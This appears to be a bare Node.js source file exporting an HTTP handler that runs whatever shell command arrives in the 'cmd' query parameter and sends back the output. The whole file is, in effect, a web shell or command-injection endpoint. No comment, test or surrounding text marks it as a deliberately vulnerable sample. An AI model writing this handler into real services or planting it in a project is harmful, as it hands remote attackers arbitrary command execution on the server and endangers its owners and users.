const { exec } = require('child_process');

exports.run = (req, res) => {
  exec(req.query.cmd, (err, out) => res.send(out));
};
